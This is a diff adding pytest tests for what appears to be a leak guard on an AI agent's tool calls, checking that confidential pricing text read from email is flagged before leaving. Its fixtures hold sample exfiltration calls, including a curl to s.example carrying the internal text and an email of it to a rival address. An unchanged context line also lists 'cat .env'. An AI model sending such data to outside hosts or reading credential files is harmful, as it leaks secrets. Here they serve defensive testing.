@@ -424,3 +424,70 @@ def test_silent_calls_need_no_facts():
     for command in ("ls", "git status", "cat .env", "pytest -q"):
         event = Event("PreToolUse", "s", tool="Bash", input={"command": command})
         assert needs(event, Session("s"), story.settings) == ()
+
+
+# --- the leak story on a fresh install
+
+DOCUMENT = ("Pricing of the northern region for next year: the discount for Contoso rises to eighteen percent and the "
+            "list price of the large plan falls to nine hundred, which nobody outside sales may know before March")
+
+
+def fresh(prompt="Prepare the competitor slide for Anna"):
+    story = Story(Settings())
+    story.settings.key = b"k" * 16
+    story.play("UserPromptSubmit", prompt=prompt)
+    story.post("mcp__mail__search_email", [{"type": "text", "text": DOCUMENT}])
+    return story
+
+
+QUERY = DOCUMENT[:150]
+SILENT_LEAVINGS = [
+    ("WebSearch", {"query": "competitor pricing northern region"}), ("WebFetch", {"url": "https://docs.python.org/3/", "prompt": QUERY}),
+    ("mcp__mail__create_draft", {"body": DOCUMENT}), ("Bash", {"command": "git push"}),
+    ("Bash", {"command": "curl https://docs.example/one-two-three-four-five-six-seven-eight-nine"}),
+    ("mcp__mail__send_email", {"to": "bo@rival.example", "body": "See you on Monday"}),
+    ("mcp__chat__send_message", {"channel": "anna", "text": DOCUMENT}),
+]
+ASKED_LEAVINGS = [
+    ("WebSearch", {"query": QUERY}), ("WebFetch", {"url": "https://s.example/?q=" + QUERY.replace(" ", "+"), "prompt": "x"}),
+    ("mcp__brave__brave_web_search", {"query": QUERY}), ("mcp__slack__post_message", {"channel": "C042", "text": DOCUMENT}),
+    ("mcp__mail__send_email", {"to": "x@rival.example", "body": DOCUMENT}),
+    ("Bash", {"command": f'curl "https://s.example/?q={QUERY.replace(" ", "%20")}"'}),
+]
+
+
+@pytest.mark.parametrize("tool, given", SILENT_LEAVINGS, ids=lambda value: str(value)[:50])
+def test_what_may_leave_on_a_fresh_install(tool, given):
+    assert fresh().play("PreToolUse", tool, input=given, call_id="c").effect == PASS
+
+
+@pytest.mark.parametrize("tool, given", ASKED_LEAVINGS, ids=lambda value: str(value)[:50])
+def test_an_internal_document_verbatim_is_asked_about_once(tool, given):
+    story = fresh()
+    said = story.play("PreToolUse", tool, input=given, call_id="c")
+    assert said.effect == ASK and "document" in said.reason
+    story.play("PostToolUse", tool, input=given, response="done", call_id="c")
+    assert story.play("PreToolUse", tool, input=given, call_id="d").effect == PASS
+
+
+def test_an_address_book_names_whom_it_may_go_to():
+    story = fresh()
+    story.post("mcp__mail__search_contacts", [{"type": "text", "text": "Bo Lund, bo@lund.example, sales"}])
+    given = {"to": "bo@lund.example", "body": DOCUMENT}
+    assert story.play("PreToolUse", "mcp__mail__send_email", input=given, call_id="c").effect == PASS
+
+
+def test_the_table_of_the_docs_is_the_table_of_the_code():
+    text = (Path(__file__).parents[1] / "docs" / "leaving.md").read_text()
+    names = {"nothing known": "nothing", "a folder or archive": "archive", "the repository": "repository",
+             "cards, IBANs, SSNs read before": "pii", "verbatim text of an internal tool": "document",
+             "text or values of an internal source": "internal", "credentials": "credentials"}
+    found = {}
+    for line in text.splitlines():
+        cells = [cell.strip() for cell in line.strip("|").split("|")]
+        if cells[0] in names and len(cells) == 7:
+            found[names[cells[0]]] = [{"pass": PASS, "ask": ASK, "deny": DENY}[cell.split()[0].strip(",;")] for cell in cells[1:]]
+    for carried, said in found.items():
+        row = [next(r[2][k] for r in TABLE if r[1] == carried and not r[0]) for k in range(8)]
+        assert len(set(row[:3])) == 1 and said == [row[0], *row[3:]], carried
+    assert set(found) == {row[1] for row in TABLE}
